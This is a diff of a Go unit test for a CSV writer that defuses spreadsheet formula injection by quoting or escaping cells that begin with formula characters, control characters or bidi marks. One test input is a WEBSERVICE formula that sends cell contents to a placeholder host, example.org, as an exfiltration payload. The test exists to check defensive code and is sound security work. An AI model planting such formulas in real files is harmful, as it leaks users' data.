@@ -137,15 +137,16 @@ func TestWriteRow(t *testing.T) {
 	}{
 		{[]string{"a", "b c", ""}, "a,b c,\n"},
 		{[]string{""}, "\"\"\n"},
-		{[]string{"a,b", "a;b", "a\tb", `a"b`}, "\"a,b\",\"a;b\",\"a\tb\",\"a\"\"b\"\n"},
+		{[]string{"a,b", "a;b", "a\tb", `a"b`}, "\"a,b\",\"a;b\",a\\tb,\"a\"\"b\"\n"},
 		{[]string{"=1+1", "ok", "", "'=1"}, "'=1+1,ok,,'=1\n"},
 		{[]string{"+1", "-1", "@a", "a=1", "m/44/60/0/0/0"}, "'+1,'-1,'@a,a=1,m/44/60/0/0/0\n"},
 		{[]string{"＝1", "＋1", "－1", "＠a", "﹦﹢﹣﹫"}, "'＝1,'＋1,'－1,'＠a,'﹦﹢﹣﹫\n"},
-		{[]string{"\tx", "\rx", "\t=x"}, "\"'\tx\",\"'\rx\",\"'\t'=x\"\n"},
+		{[]string{"\tx", "\rx", "\t=x", "\u200b=x", "a\u202eb\x1b\x00"}, `\tx,\rx,\t=x,\u200b=x,a\u202eb\x1b\x00` + "\n"},
+		{[]string{"two\nlines"}, "\"two\nlines\"\n"},
 		// Where a semicolon parts cells, these quotes are text, and B1 has the rest.
 		{[]string{"w", ";http://example.org/;=WEBSERVICE(B1&D1);x"}, "w,\";http://example.org/;'=WEBSERVICE(B1&D1);x\"\n"},
 		{[]string{"w", `a;"=B1;x`}, `w,"a;""'=B1;x"` + "\n"},
-		{[]string{"a; =1", "a\t@b", "a;b=c", "a b;-"}, "\"a; '=1\",\"a\t'@b\",\"a;b=c\",\"a b;'-\"\n"},
+		{[]string{"a; =1", "a\t@b", "a;b=c", "a b;-"}, "\"a; '=1\",a\\t@b,\"a;b=c\",\"a b;'-\"\n"},
 	} {
 		var b bytes.Buffer
 		w := bufio.NewWriter(&b)
